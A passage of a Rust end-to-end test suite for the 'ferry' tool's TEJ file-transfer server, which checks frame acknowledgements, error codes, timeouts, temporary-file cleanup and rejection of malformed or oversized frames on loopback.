//! End-to-end tests of ferry's TEJ server and client (`shared/specs/tej.md`): the real binary on
//! loopback, spoken to in raw TEJ frames over `std::net::TcpStream`, by the upstream Python package
//! `tej-protoc` 0.2.4 (drivers in `tests/interop/`), and by fake peers written here. Each test is
//! named after the checklist items of tej.md section 7 it covers. Raw frames are the spec's byte
//! vectors (copied in as hex so a failure shows the exact bytes) or built by `frame()`. Every
//! socket has read and write timeouts and every child process a deadline, so no test can hang.

use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::harness::{ferry, pseudo_random, sha256_file, tree, Server, TempDir, FERRY};

/// Read/write timeout on every test socket: far above any server timeout used here.
const T: Duration = Duration::from_secs(20);
/// Largest file or message a test accepts in one frame (bounds memory if the server misbehaves).
const MAX_READ: u64 = 256 << 20;
/// Every error code of tej.md 3.3.
const ERROR_CODES: &[&str] = &[
    "bad-frame",
    "too-many-files",
    "too-large",
    "no-space",
    "timeout",
    "truncated",
    "busy",
    "bad-request",
    "not-found",
    "ambiguous",
    "internal",
];

// ---------------------------------------------------------------------------------------------
// Byte vectors of `shared/specs/vectors/tej/` (tej.md 1.6), as spaced hex.

const FILE_ONLY: &str = "80 01 00 00 00 00 00 00 00 01 00 05 61 2e 74 78 74 00 00 00 00 00 00 00 04 41 41 41 41 00 00 00 00 00 00 00 00";
const EMPTY: &str = "80 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00";
const PING: &str = "82 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00";
const MESSAGE_HELLO: &str = "80 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 05 68 65 6c 6c 6f";
const STATUS_127_VERSION_0: &str = "ff 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 01 78";
const EMPTY_NAME: &str = "80 01 00 00 00 00 00 00 00 01 00 00 00 00 00 00 00 00 00 04 64 61 74 61 00 00 00 00 00 00 00 00";
const BUGGY_NONASCII_NAME: &str = "80 01 00 00 00 00 00 00 00 01 00 05 c3 a9 2e 74 78 74 00 00 00 00 00 00 00 02 58 59 00 00 00 00 00 00 00 00";
const CONCAT_FILE_PING_MESSAGE: &str = "80 01 00 00 00 00 00 00 00 01 00 05 61 2e 74 78 74 00 00 00 00 00 00 00 04 41 41 41 41 00 00 00 00 00 00 00 00 82 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 80 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 05 68 65 6c 6c 6f";
const TWO_FILES_AND_MESSAGE: &str = "85 01 00 00 00 00 00 00 00 02 00 09 73 6d 61 6c 6c 2e 74 78 74 00 00 00 00 00 00 00 0a 68 65 6c 6c 6f 20 74 65 6a 0a 00 09 65 6d 70 74 79 2e 62 69 6e 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 03 6d 73 67";
const FERRY_ACK_FILE_ONLY: &str = "81 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 97 7b 22 66 69 6c 65 73 22 3a 5b 7b 22 6e 61 6d 65 22 3a 22 61 2e 74 78 74 22 2c 22 73 69 7a 65 22 3a 34 2c 22 73 68 61 32 35 36 22 3a 22 36 33 63 31 64 64 39 35 31 66 66 65 64 66 36 66 37 66 64 39 36 38 61 64 34 65 66 61 33 39 62 38 65 64 35 38 34 66 31 36 32 66 34 36 65 37 31 35 31 31 34 65 65 31 38 34 66 38 64 65 39 32 30 31 22 2c 22 73 74 6f 72 65 64 5f 61 73 22 3a 22 61 2e 74 78 74 22 7d 5d 2c 22 6d 65 73 73 61 67 65 5f 62 79 74 65 73 22 3a 30 7d";
const FERRY_REQUEST_GET: &str = "84 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 11 7b 22 67 65 74 22 3a 5b 22 61 2e 74 78 74 22 5d 7d";
const FERRY_REQUEST_ANSWER: &str = "80 01 00 00 00 00 00 00 00 01 00 05 61 2e 74 78 74 00 00 00 00 00 00 00 04 41 41 41 41 00 00 00 00 00 00 00 71 7b 22 66 69 6c 65 73 22 3a 5b 7b 22 6e 61 6d 65 22 3a 22 61 2e 74 78 74 22 2c 22 73 69 7a 65 22 3a 34 2c 22 73 68 61 32 35 36 22 3a 22 36 33 63 31 64 64 39 35 31 66 66 65 64 66 36 66 37 66 64 39 36 38 61 64 34 65 66 61 33 39 62 38 65 64 35 38 34 66 31 36 32 66 34 36 65 37 31 35 31 31 34 65 65 31 38 34 66 38 64 65 39 32 30 31 22 7d 5d 7d";
const FERRY_LIST_REQUEST: &str = "85 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00";
const FERRY_LISTING: &str = "86 01 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 7d 7b 22 66 69 6c 65 73 22 3a 5b 7b 22 6e 61 6d 65 22 3a 22 61 2e 74 78 74 22 2c 22 73 69 7a 65 22 3a 34 2c 22 73 68 61 32 35 36 22 3a 22 36 33 63 31 64 64 39 35 31 66 66 65 64 66 36 66 37 66 64 39 36 38 61 64 34 65 66 61 33 39 62 38 65 64 35 38 34 66 31 36 32 66 34 36 65 37 31 35 31 31 34 65 65 31 38 34 66 38 64 65 39 32 30 31 22 7d 5d 2c 22 6e 65 78 74 22 3a 6e 75 6c 6c 7d";

fn unhex(s: &str) -> Vec<u8> {
    s.split_whitespace()
        .map(|b| u8::from_str_radix(b, 16).unwrap())
        .collect()
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn spaced(b: &[u8]) -> String {
    b.iter()
        .map(|x| format!("{x:02x}"))
        .collect::<Vec<_>>()
        .join(" ")
}

fn sha(b: &[u8]) -> String {
    hex(&Sha256::digest(b))
}

// ---------------------------------------------------------------------------------------------
// Wire model (tej.md 1.2)

/// One whole frame: status byte (top bit set unless `status` says otherwise), version 1.
fn frame(status: u8, files: &[(&[u8], &[u8])], msg: &[u8]) -> Vec<u8> {
    let mut v = vec![status | 0x80, 1];
    v.extend_from_slice(&(files.len() as u64).to_be_bytes());
    for (name, data) in files {
        v.extend_from_slice(&(name.len() as u16).to_be_bytes());
        v.extend_from_slice(name);
        v.extend_from_slice(&(data.len() as u64).to_be_bytes());
        v.extend_from_slice(data);
    }
    v.extend_from_slice(&(msg.len() as u64).to_be_bytes());
    v.extend_from_slice(msg);
    v
}

/// The bytes of a frame up to and including a file's length field `len` (no data follows).
fn file_header(name: &[u8], len: u64) -> Vec<u8> {
    let mut v = vec![0x80, 1];
    v.extend_from_slice(&1u64.to_be_bytes());
    v.extend_from_slice(&(name.len() as u16).to_be_bytes());
    v.extend_from_slice(name);
    v.extend_from_slice(&len.to_be_bytes());
    v
}

#[derive(Debug)]
struct Frame {
    status: u8,
    version: u8,
    files: Vec<(Vec<u8>, Vec<u8>)>,
    msg: Vec<u8>,
}

impl Frame {
    fn custom(&self) -> u8 {
        self.status & 0x7f
    }
    fn json(&self) -> Value {
        serde_json::from_slice(&self.msg).unwrap_or_else(|e| {
            panic!(
                "status {} message is not JSON ({e}): {:?}",
                self.custom(),
                String::from_utf8_lossy(&self.msg)
            )
        })
    }
}

#[derive(Debug, PartialEq, Eq)]
enum End {
    /// Orderly close (FIN) between frames.
    Eof,
    /// EOF inside a frame after this many bytes of it.
    Truncated(usize),
    /// Connection reset or another error.
    Reset(ErrorKind),
    /// Nothing arrived for the socket's read timeout.
    Timeout,
}

fn classify(e: std::io::Error) -> End {
    match e.kind() {
        ErrorKind::WouldBlock | ErrorKind::TimedOut => End::Timeout,
        ErrorKind::UnexpectedEof => End::Truncated(0),
        k => End::Reset(k),
    }
}

/// Reads one whole frame, or says how the stream ended. Lengths over `MAX_READ` panic.
fn read_frame(c: &mut impl Read) -> Result<Frame, End> {
    let mut first = [0u8; 1];
    loop {
        match c.read(&mut first) {
            Ok(0) => return Err(End::Eof),
            Ok(_) => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => {}
            Err(e) => return Err(classify(e)),
        }
    }
    let mut got = 1usize;
    let mut take = |c: &mut dyn Read, n: u64| -> Result<Vec<u8>, End> {
        assert!(
            n <= MAX_READ,
            "frame field of {n} bytes, over the test's limit"
        );
        let mut v = vec![0u8; n as usize];
        c.read_exact(&mut v).map_err(|e| match classify(e) {
            End::Truncated(_) => End::Truncated(got),
            other => other,
        })?;
        got += n as usize;
        Ok(v)
    };
    let u64_of = |b: Vec<u8>| u64::from_be_bytes(b.try_into().unwrap());
    let version = take(c, 1)?[0];
    let n = u64_of(take(c, 8)?);
    assert!(n <= 100_000, "frame announces {n} files");
    let mut files = Vec::new();
    for _ in 0..n {
        let l = take(c, 2)?;
        let name = take(c, u16::from_be_bytes([l[0], l[1]]) as u64)?;
        let f = u64_of(take(c, 8)?);
        files.push((name, take(c, f)?));
    }
    let m = u64_of(take(c, 8)?);
    let msg = take(c, m)?;
    Ok(Frame {
        status: first[0],
        version,
        files,
        msg,
    })
}

/// Reads the next frame, which must come.
#[track_caller]
fn next_frame(c: &mut TcpStream) -> Frame {
    match read_frame(c) {
        Ok(f) => f,
        Err(e) => panic!("expected a frame, got {e:?}"),
    }
}

/// Asserts `f` is an error frame of tej.md 3.3 (T30) with code `code`; returns its JSON.
#[track_caller]
fn assert_error(f: &Frame, code: &str) -> Value {
    assert_eq!(f.status, 0x83, "error frames are status 3: {f:?}");
    assert_eq!(f.version, 1, "ferry writes version 1");
    assert!(f.files.is_empty(), "error frames carry no files");
    let j = f.json();
    let e = j["error"].as_str().expect("`error` is a string");
    assert!(ERROR_CODES.contains(&e), "unknown error code {e:?}");
    assert_eq!(e, code, "error frame {j}");
    assert!(j["detail"].is_string(), "`detail` is a string: {j}");
    j
}

/// Reads the next frame, which must be error `code`, then the orderly close.
#[track_caller]
fn expect_error_and_close(c: &mut TcpStream, code: &str) -> Value {
    let f = next_frame(c);
    let j = assert_error(&f, code);
    expect_closed(c);
    j
}

/// Asserts the peer closes (FIN or reset) with no further frame.
#[track_caller]
fn expect_closed(c: &mut TcpStream) {
    match read_frame(c) {
        Err(End::Eof) | Err(End::Reset(_)) => {}
        Err(e) => panic!("expected a close, got {e:?}"),
        Ok(f) => panic!("expected a close, got another frame {f:?}"),
    }
}

/// Asserts nothing arrives on `c` for `wait` (the connection stays open and silent).
#[track_caller]
fn assert_silent(c: &mut TcpStream, wait: Duration) {
    c.set_read_timeout(Some(wait)).unwrap();
    let mut b = [0u8; 256];
    match c.read(&mut b) {
        Ok(0) => panic!("connection closed, expected it to stay open"),
        Ok(n) => panic!("unexpected bytes: {}", spaced(&b[..n])),
        Err(e) => assert!(
            matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
            "unexpected error {e}"
        ),
    }
    c.set_read_timeout(Some(T)).unwrap();
}

/// The status-1 acknowledgement of tej.md 3.1 for files `(name, data, stored_as)` and a message
/// of `message_bytes`, as the compact JSON ferry must write.
fn ack_json(files: &[(&str, &[u8], Option<&str>)], message_bytes: usize) -> String {
    let entries: Vec<Value> = files
        .iter()
        .map(|(n, d, s)| json!({"name": n, "size": d.len(), "sha256": sha(d), "stored_as": s}))
        .collect();
    // serde_json keeps insertion order only with `preserve_order`; build the text by hand so the
    // key order of 3.1 is checked too.
    let mut out = String::from("{\"files\":[");
    for (i, e) in entries.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&format!(
            "{{\"name\":{},\"size\":{},\"sha256\":{},\"stored_as\":{}}}",
            e["name"], e["size"], e["sha256"], e["stored_as"]
        ));
    }
    out.push_str(&format!("],\"message_bytes\":{message_bytes}}}"));
    out
}

/// Reads the next frame, which must be a status-1 acknowledgement with exactly `want` as message.
#[track_caller]
fn expect_ack(c: &mut TcpStream, want: &str) {
    let f = next_frame(c);
    assert_eq!(
        f.status,
        0x81,
        "expected an acknowledgement, got status {} message {:?}",
        f.custom(),
        String::from_utf8_lossy(&f.msg)
    );
    assert_eq!(f.version, 1);
    assert!(f.files.is_empty(), "acknowledgements carry no files");
    assert_eq!(String::from_utf8_lossy(&f.msg), want);
}

// ---------------------------------------------------------------------------------------------
// Server, folders, processes

/// `ferry tej serve --bind 127.0.0.1:0 --root DIR` with 10 s idle and frame timeouts unless
/// `extra` sets them.
fn serve(dir: &Path, extra: &[&str]) -> Server {
    let d = dir.to_str().unwrap();
    let mut args = vec!["tej", "serve", "--bind", "127.0.0.1:0", "--root", d];
    if !extra.contains(&"--idle-timeout") {
        args.extend_from_slice(&["--idle-timeout", "10"]);
    }
    if !extra.contains(&"--frame-timeout") {
        args.extend_from_slice(&["--frame-timeout", "10"]);
    }
    args.extend_from_slice(extra);
    Server::start(&args, 1)
}

fn connect(s: &Server) -> TcpStream {
    connect_to(&s.addr("tej"))
}

fn connect_to(addr: &str) -> TcpStream {
    let c = TcpStream::connect(addr).expect("connect");
    c.set_read_timeout(Some(T)).unwrap();
    c.set_write_timeout(Some(T)).unwrap();
    c
}

fn ingest_dir(dir: &Path) -> PathBuf {
    dir.join(".ferry").join("ingest").join("tej")
}

/// Asserts no TEJ temporary is left in `dir` (T21).
#[track_caller]
fn assert_no_temporaries(dir: &Path) {
    let ing = ingest_dir(dir);
    if let Ok(rd) = std::fs::read_dir(&ing) {
        let left: Vec<_> = rd.filter_map(Result::ok).map(|e| e.file_name()).collect();
        assert!(left.is_empty(), "temporaries left in {ing:?}: {left:?}");
    }
}

/// The TEJ temporaries in `dir` now: (name, length, bytes allocated).
fn temporaries(dir: &Path) -> Vec<(String, u64, u64)> {
    use std::os::unix::fs::MetadataExt;
    std::fs::read_dir(ingest_dir(dir))
        .map(|rd| {
            rd.filter_map(Result::ok)
                .filter_map(|e| {
                    let m = e.metadata().ok()?;
                    Some((
                        e.file_name().to_string_lossy().into_owned(),
                        m.len(),
                        m.blocks() * 512,
                    ))
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Waits (up to 20 s) until a TEJ temporary of `dir` holds at least `bytes` (written or
/// preallocated): the upload has reached the disk (issue 16: a test of cleanup must see the
/// temporary exist before the failure it provokes).
#[track_caller]
fn wait_for_temporary(dir: &Path, bytes: u64) {
    assert!(
        wait_for(Duration::from_secs(20), || temporaries(dir)
            .iter()
            .any(|t| t.1 >= bytes)),
        "no temporary of {bytes} bytes appeared in {:?}: {:?}",
        ingest_dir(dir),
        temporaries(dir)
    );
}

/// Waits (up to 10 s) until `dir` has no TEJ temporary left, then asserts it.
#[track_caller]
fn assert_temporaries_go(dir: &Path) {
    wait_for(Duration::from_secs(10), || temporaries(dir).is_empty());
    assert_no_temporaries(dir);
}

/// Visible files of `dir` as `(name, sha256 hex)`.
fn visible(dir: &Path) -> Vec<(String, String)> {
    tree(dir).into_iter().map(|(n, h)| (n, hex(&h))).collect()
}

/// Polls `cond` every 20 ms for up to `limit`.
fn wait_for(limit: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + limit;
    loop {
        if cond() {
            return true;
        }
        if Instant::now() >= deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A memory field (`RssAnon`, `VmRSS`) of `/proc/PID/status` in KiB; 0 once the process is gone.
/// Waits (at most 300 s) for `child` to exit while sampling the RssAnon of the server and of the
/// child every 20 ms; returns the exit status and both maxima in KiB (T18).
fn wait_sampling_rss(
    child: &mut Child,
    server_pid: u32,
    what: &str,
) -> (std::process::ExitStatus, u64, u64) {
    let pid = child.id();
    let (mut max_server, mut max_child) = (0u64, 0u64);
    let t0 = Instant::now();
    loop {
        max_server = max_server.max(proc_kib(server_pid, "RssAnon"));
        max_child = max_child.max(proc_kib(pid, "RssAnon"));
        if let Ok(Some(st)) = child.try_wait() {
            return (st, max_server, max_child);
        }
        assert!(
            t0.elapsed() < Duration::from_secs(300),
            "{what} took over 300 s"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn proc_kib(pid: u32, field: &str) -> u64 {
    let Ok(s) = std::fs::read_to_string(format!("/proc/{pid}/status")) else {
        return 0;
    };
    s.lines()
        .find_map(|l| l.strip_prefix(field)?.strip_prefix(':'))
        .and_then(|r| r.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

/// The Python interpreter of the venv the Makefile builds; fails (never skips) when missing.
fn python() -> &'static str {
    let p = concat!(env!("CARGO_MANIFEST_DIR"), "/target/venv/bin/python");
    assert!(
        Path::new(p).exists(),
        "{p} is missing: run `make venv` (TEJ interop tests need tej-protoc 0.2.4)"
    );
    p
}

fn interop(script: &str) -> String {
    concat!(env!("CARGO_MANIFEST_DIR"), "/tests/interop/").to_string() + script
}

/// A child process killed on drop, with its stdout lines on a channel.
struct Proc {
    child: Child,
    lines: mpsc::Receiver<String>,
    stderr: std::sync::Arc<std::sync::Mutex<String>>,
}

impl Proc {
    fn spawn(cmd: &str, args: &[&str]) -> Proc {
        let mut child = Command::new(cmd)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap_or_else(|e| panic!("spawn {cmd}: {e}"));
        let out = child.stdout.take().unwrap();
        let err = child.stderr.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for l in BufReader::new(out).lines().map_while(Result::ok) {
                if tx.send(l).is_err() {
                    break;
                }
            }
        });
        let log = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
        let log2 = log.clone();
        std::thread::spawn(move || {
            let mut s = String::new();
            let _ = BufReader::new(err).read_to_string(&mut s);
            log2.lock().unwrap().push_str(&s);
        });
        Proc {
            child,
            lines,
            stderr: log,
        }
    }

    #[track_caller]
    fn line(&self, limit: Duration) -> String {
        self.lines.recv_timeout(limit).unwrap_or_else(|_| {
            std::thread::sleep(Duration::from_millis(200));
            panic!(
                "no output line within {limit:?}; stderr:\n{}",
                self.stderr.lock().unwrap()
            )
        })
    }

    /// Waits for the exit; kills and panics after `limit`.
    #[track_caller]
    fn wait(&mut self, limit: Duration) -> std::process::ExitStatus {
        let deadline = Instant::now() + limit;
        loop {
            if let Ok(Some(s)) = self.child.try_wait() {
                return s;
            }
            if Instant::now() >= deadline {
                let _ = self.child.kill();
                panic!(
                    "process did not exit within {limit:?}; stderr:\n{}",
                    self.stderr.lock().unwrap()
                );
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Starts `tests/interop/tej_server.py OUT MODE` and returns it with its address.
fn py_server(out: &Path, mode: &str) -> (Proc, String) {
    let p = Proc::spawn(
        python(),
        &[&interop("tej_server.py"), out.to_str().unwrap(), mode],
    );
    let l = p.line(Duration::from_secs(30));
    let addr = l
        .strip_prefix("listening tej-py ")
        .unwrap_or_else(|| panic!("unexpected first line {l:?}"))
        .to_string();
    (p, addr)
}

fn stdout_json(o: &std::process::Output) -> Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {:?}\nstderr: {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

fn code(o: &std::process::Output) -> Option<i32> {
    o.status.code()
}

/// Writes `len` pseudo-random bytes to `path` in 8 MiB pieces and returns their SHA-256 hex.
fn big_file(path: &Path, seed: u64, len: usize) -> String {
    let mut f = std::fs::File::create(path).unwrap();
    let mut h = Sha256::new();
    let piece = pseudo_random(seed, 8 << 20);
    let mut left = len;
    while left > 0 {
        let n = left.min(piece.len());
        f.write_all(&piece[..n]).unwrap();
        h.update(&piece[..n]);
        left -= n;
    }
    hex(&h.finalize())
}

const S: Duration = Duration::from_secs(60);

// ---------------------------------------------------------------------------------------------
// T8, T6, T16, T17: acknowledgements and what is not answered

#[test]
fn t8_file_only_gets_exactly_the_ack_vector_after_the_file_is_stored() {
    let dir = TempDir::new("tej-t8");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    let f = next_frame(&mut c);
    let mut raw = frame(f.status & 0x7f, &[], &f.msg);
    raw[1] = f.version;
    assert_eq!(spaced(&raw), FERRY_ACK_FILE_ONLY, "ack of file_only");
    // Durable before the ack: the file is there the moment the ack is read.
    assert_eq!(visible(dir.path()), vec![("a.txt".into(), sha(b"AAAA"))]);
    // The message alone and the empty frame each get their own ack, in order.
    c.write_all(&unhex(MESSAGE_HELLO)).unwrap();
    c.write_all(&unhex(EMPTY)).unwrap();
    expect_ack(&mut c, &ack_json(&[], 5));
    expect_ack(&mut c, &ack_json(&[], 0));
    assert_silent(&mut c, Duration::from_millis(500));
    assert_no_temporaries(dir.path());
}

#[test]
fn t6_t7_concat_file_ping_message_in_one_write_gets_two_acks_and_none_for_the_ping() {
    let dir = TempDir::new("tej-t6");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&unhex(CONCAT_FILE_PING_MESSAGE)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    expect_ack(&mut c, &ack_json(&[], 5));
    assert_silent(&mut c, Duration::from_secs(1));
    assert_eq!(visible(dir.path()), vec![("a.txt".into(), sha(b"AAAA"))]);
}

#[test]
fn t8_two_files_and_a_message_in_one_frame_are_acknowledged_in_frame_order() {
    let dir = TempDir::new("tej-t8b");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let one = pseudo_random(81, 100_000);
    c.write_all(&frame(
        0,
        &[(b"z-first.bin", &one), (b"empty.bin", b"")],
        b"the message",
    ))
    .unwrap();
    expect_ack(
        &mut c,
        &ack_json(
            &[
                ("z-first.bin", &one, Some("z-first.bin")),
                ("empty.bin", b"", Some("empty.bin")),
            ],
            11,
        ),
    );
    let mut want = vec![
        ("empty.bin".to_string(), sha(b"")),
        ("z-first.bin".to_string(), sha(&one)),
    ];
    want.sort();
    assert_eq!(visible(dir.path()), want);
}

#[test]
fn t16_statuses_7_to_127_are_stored_but_never_acknowledged() {
    let dir = TempDir::new("tej-t16");
    let s = serve(dir.path(), &["-v"]);
    let mut c = connect(&s);
    c.write_all(&frame(7, &[(b"seven.txt", b"7777")], b"app"))
        .unwrap();
    c.write_all(&unhex(STATUS_127_VERSION_0)).unwrap();
    c.write_all(&frame(0x7f, &[], b"")).unwrap();
    assert_silent(&mut c, Duration::from_secs(1));
    // The connection is still in step: the next deliver frame gets the next reply.
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    assert_eq!(
        visible(dir.path()),
        vec![
            ("a.txt".into(), sha(b"AAAA")),
            ("seven.txt".into(), sha(b"7777"))
        ]
    );
    // The application (`serve`'s log) got each frame as sent: status, version, file count and
    // message, unchanged.
    let log = s.stderr_text();
    for want in [
        "frame status 7 version 1, 1 files",
        "message (3 bytes): app",
        "stored seven.txt (4 bytes)",
        "application status 7: 1 files stored, not acknowledged",
        "frame status 127 version 0, 0 files",
        "message (1 bytes): x",
        "application status 127: 0 files stored, not acknowledged",
    ] {
        assert!(log.contains(want), "log lacks {want:?}:\n{log}");
    }
}

/// T16: an application frame with a large file and a long message: the file is stored byte for
/// byte, the message reaches the log unchanged (its first 200 bytes, as documented), nothing
/// answers it, and the connection goes on.
#[test]
fn t16_an_application_frame_is_stored_unchanged_and_its_message_reaches_the_log() {
    let dir = TempDir::new("tej-t16b");
    let s = serve(dir.path(), &["-v"]);
    let data = pseudo_random(1601, 3 << 20);
    let msg: Vec<u8> = (0..1000).map(|i| b'a' + (i % 26) as u8).collect();
    let mut c = connect(&s);
    c.write_all(&frame(99, &[(b"app.bin", &data)], &msg))
        .unwrap();
    assert_silent(&mut c, Duration::from_millis(500));
    c.write_all(&unhex(EMPTY)).unwrap();
    expect_ack(&mut c, &ack_json(&[], 0));
    assert_eq!(visible(dir.path()), vec![("app.bin".into(), sha(&data))]);
    let log = s.stderr_text();
    let head = String::from_utf8(msg[..200].to_vec()).unwrap();
    assert!(
        log.contains(&format!("message (1000 bytes): {head}\n")),
        "{log}"
    );
    assert!(
        log.contains("application status 99: 1 files stored"),
        "{log}"
    );
}

#[test]
fn t17_acks_errors_listings_and_pings_are_not_answered_and_their_files_not_stored() {
    let dir = TempDir::new("tej-t17");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let ack = unhex(FERRY_ACK_FILE_ONLY);
    let listing = unhex(FERRY_LISTING);
    c.write_all(&ack).unwrap();
    c.write_all(&listing).unwrap();
    c.write_all(&unhex(PING)).unwrap();
    c.write_all(&frame(1, &[(b"s_a.txt", b"one")], b"{\"files\":[]}"))
        .unwrap();
    c.write_all(&frame(2, &[(b"s_b.txt", b"two")], b""))
        .unwrap();
    c.write_all(&frame(
        3,
        &[(b"s_c.txt", b"three")],
        b"{\"error\":\"internal\",\"detail\":\"x\"}",
    ))
    .unwrap();
    c.write_all(&frame(
        6,
        &[(b"s_f.txt", b"six")],
        b"{\"files\":[],\"next\":null}",
    ))
    .unwrap();
    assert_silent(&mut c, Duration::from_secs(1));
    // A list request carrying files (and a message that is not a list request): `bad-request`,
    // the connection stays open, the files are not stored.
    c.write_all(&unhex(TWO_FILES_AND_MESSAGE)).unwrap();
    assert_error(&next_frame(&mut c), "bad-request");
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    assert_eq!(visible(dir.path()), vec![("a.txt".into(), sha(b"AAAA"))]);
}

#[test]
fn t7_pings_reset_the_idle_timer_and_silence_then_gets_timeout() {
    let dir = TempDir::new("tej-t7");
    let s = serve(dir.path(), &["--idle-timeout", "2"]);
    let mut c = connect(&s);
    let ping = unhex(PING);
    for _ in 0..4 {
        std::thread::sleep(Duration::from_secs(1));
        c.write_all(&ping).unwrap();
    }
    // 4 s after connecting, twice the idle timeout: still open, and no ping was answered.
    assert_silent(&mut c, Duration::from_millis(500));
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    let t0 = Instant::now();
    expect_error_and_close(&mut c, "timeout");
    let took = t0.elapsed();
    assert!(
        took >= Duration::from_millis(1500) && took < Duration::from_secs(8),
        "idle timeout of 2 s fired after {took:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// T4, T5, T13, T19, T20, T25, T27, T30: error frames

#[test]
fn t4_t30_status_byte_without_top_bit_gets_bad_frame_and_close() {
    let dir = TempDir::new("tej-t4");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut bad = unhex(FILE_ONLY);
    bad[0] = 0x00;
    c.write_all(&bad).unwrap();
    expect_error_and_close(&mut c, "bad-frame");
    assert!(visible(dir.path()).is_empty());
    // The server keeps serving.
    let mut c = connect(&s);
    c.write_all(&unhex(MESSAGE_HELLO)).unwrap();
    expect_ack(&mut c, &ack_json(&[], 5));
}

#[test]
fn t5_any_version_is_accepted_by_default_and_strict_mode_gets_bad_frame() {
    let dir = TempDir::new("tej-t5");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut v0 = unhex(FILE_ONLY);
    v0[1] = 0;
    let mut v2 = unhex(MESSAGE_HELLO);
    v2[1] = 2;
    c.write_all(&v0).unwrap();
    c.write_all(&v2).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    expect_ack(&mut c, &ack_json(&[], 5));
    drop(s);

    let dir = TempDir::new("tej-t5s");
    let s = serve(dir.path(), &["--strict-version"]);
    let mut c = connect(&s);
    c.write_all(&v0).unwrap();
    expect_error_and_close(&mut c, "bad-frame");
    assert!(visible(dir.path()).is_empty());
}

#[test]
fn t13_tej_protoc_nonascii_name_gets_too_large_and_nothing_is_stored() {
    let dir = TempDir::new("tej-t13");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&unhex(BUGGY_NONASCII_NAME)).unwrap();
    expect_error_and_close(&mut c, "too-large");
    assert!(visible(dir.path()).is_empty());
    assert_no_temporaries(dir.path());
}

#[test]
fn t19_one_tib_claim_gets_too_large_before_any_byte_is_written_with_small_rss() {
    let dir = TempDir::new("tej-t19");
    let s = serve(dir.path(), &[]);
    let pid = s.child.id();
    let mut c = connect(&s);
    let mut req = file_header(b"huge.bin", 1 << 40);
    req.extend_from_slice(&[0x5a; 4096]);
    c.write_all(&req).unwrap();
    let j = expect_error_and_close(&mut c, "too-large");
    assert!(j.get("files").is_none_or(|f| f == &json!([])), "{j}");
    assert!(visible(dir.path()).is_empty());
    assert_no_temporaries(dir.path());
    let rss = proc_kib(pid, "VmRSS");
    assert!(rss < 64 * 1024, "server RSS {rss} KiB after a 1 TiB claim");
    // The same claim as the second file of a frame: the first file (large enough to be on disk
    // while it arrives) stays, since files commit one by one.
    let first = pseudo_random(1901, 2 << 20);
    let mut c = connect(&s);
    let mut req = vec![0x80, 1];
    req.extend_from_slice(&2u64.to_be_bytes());
    req.extend_from_slice(&9u16.to_be_bytes());
    req.extend_from_slice(b"first.bin");
    req.extend_from_slice(&(first.len() as u64).to_be_bytes());
    req.extend_from_slice(&first[..1 << 20]);
    c.write_all(&req).unwrap();
    wait_for_temporary(dir.path(), 1 << 20);
    let mut req = first[1 << 20..].to_vec();
    req.extend_from_slice(&9u16.to_be_bytes());
    req.extend_from_slice(b"huge2.bin");
    req.extend_from_slice(&(1u64 << 40).to_be_bytes());
    c.write_all(&req).unwrap();
    let j = expect_error_and_close(&mut c, "too-large");
